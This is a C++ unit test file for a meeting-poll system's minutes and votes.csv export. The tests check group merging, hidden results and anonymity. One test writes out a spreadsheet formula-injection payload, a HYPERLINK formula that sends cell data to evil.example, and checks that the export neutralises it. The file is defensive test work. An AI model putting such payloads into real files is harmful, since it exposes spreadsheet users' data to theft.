  for (auto [lang, government, merged] :
       {std::tuple{Lang::kEn, "Government (voters: 4): agree 3, agree with reservations 1",
                   "groups under 3 voters (voters: 4): agree 2, disagree 1, abstain 1"},
        {Lang::kRu, "Государство (голосовавших: 4): согласен 3, согласен с оговорками 1",
         "группы менее 3 голосовавших (голосовавших: 4): согласен 2, не согласен 1, воздерживаюсь 1"}}) {
    const std::string md = render_minutes_markdown(d, lang);
    EXPECT_NE(md.find(government), std::string::npos) << md;
    EXPECT_NE(md.find(merged), std::string::npos) << md;
    for (const char* hidden : {"Media", "media", "Academia", "СМИ", "Академическое", "voter-"}) {
      EXPECT_EQ(md.find(hidden), std::string::npos) << "a group under 3 is merged: " << hidden << "\n" << md;
    }
  }
}

TEST(PollExportTest, HiddenResultsStayHiddenInMinutesWhileThePollIsOpen) {
  engine::PollDefinition def;
  def.kind = engine::PollKind::kSingleChoice;
  def.question = "Which?";
  def.options = {"a", "b"};
  def.results_hidden_until_closed = true;
  engine::Poll poll;
  ASSERT_TRUE(poll.create(def, kNine).ok());
  engine::CastBallot b;
  b.voter_id = "x";
  b.choices = {1};
  ASSERT_TRUE(poll.cast(b, kNine + 1).ok());
  MinutesPoll m = minutes_poll("poll-2", poll, 3, kNine + 2);
  EXPECT_EQ(m.state, MinutesPoll::State::kOpen);
  EXPECT_FALSE(m.results_shown);
  EXPECT_TRUE(m.options.empty());
  MinutesData d = meeting();
  d.polls = {m};
  const std::string md = render_minutes_markdown(d);
  EXPECT_NE(md.find("Voted: 1 of 3 eligible.\n\nResults are hidden until it closes.\n"), std::string::npos) << md;
  EXPECT_EQ(md.find("- a:"), std::string::npos) << md;
  EXPECT_TRUE(vote_rows("poll-2", poll, kNine + 2, [](const std::string& id) { return id; }).empty())
      << "no ballot of an open poll is exported";
}

TEST(PollExportTest, AnonymousVoteRowsHoldOnlyChoicesAndNamedRowsNameTheVoterInCastOrder) {
  auto name_of = [](const std::string& id) { return "Name of " + id; };
  engine::Poll anonymous = validation_poll(true);
  ASSERT_TRUE(anonymous.close(kNine + 10 * kMinute).ok());
  auto rows = vote_rows("poll-1", anonymous, kNine + 11 * kMinute, name_of);
  ASSERT_EQ(rows.size(), 8u);
  VotesData d{"kz-2026", kHead, rows};
  std::string csv = render_votes_csv(d);
  for (const char* leak : {"voter-", "Name of", "government", "academia", "media", "woman", "man,", "09:"}) {
    EXPECT_EQ(csv.find(leak), std::string::npos) << leak << " in\n" << csv;
  }
  engine::Poll named = validation_poll(false);
  ASSERT_TRUE(named.close(kNine + 10 * kMinute).ok());
  auto named_rows = vote_rows("poll-3", named, kNine + 11 * kMinute, name_of);
  ASSERT_EQ(named_rows.size(), 8u);
  EXPECT_EQ(named_rows[0].voter, "Name of voter-7");  // cast first
  EXPECT_EQ(named_rows[0].group, "academia");
  EXPECT_EQ(named_rows[0].choices, "abstain");
  EXPECT_EQ(named_rows[7].voter, "Name of voter-0");
}

// issue 17: a voter's name is theirs to choose, and the chair opens
// votes.csv in a spreadsheet: a formula stays text. (Their gender, also
// theirs to write, is no longer in the file at all: issue 18.)
TEST(VotesCsvTest, ANameThatIsAFormulaIsWrittenAsTextAndAGenderIsNotWritten) {
  const std::string formula = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click me\")";
  auto name_of = [&](const std::string&) { return formula; };
  engine::Poll named = validation_poll(false);
  ASSERT_TRUE(named.close(kNine + 10 * kMinute).ok());
  auto rows = vote_rows("poll-3", named, kNine + 11 * kMinute, name_of);
  ASSERT_FALSE(rows.empty());
  for (auto& r : rows) r.gender = "@SUM(1+1)";
  std::string csv = render_votes_csv(VotesData{"kz-2026", kHead, rows});
  for (const char* lead : {",=", ",@", ",+", ",-", "\n=", "\n@"}) {
    EXPECT_EQ(csv.find(lead), std::string::npos) << lead << " in\n" << csv;
  }
  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"https://evil.example"), std::string::npos) << csv;
  EXPECT_EQ(csv.find("SUM(1+1)"), std::string::npos) << csv;
}

}  // namespace
}  // namespace kenes::report
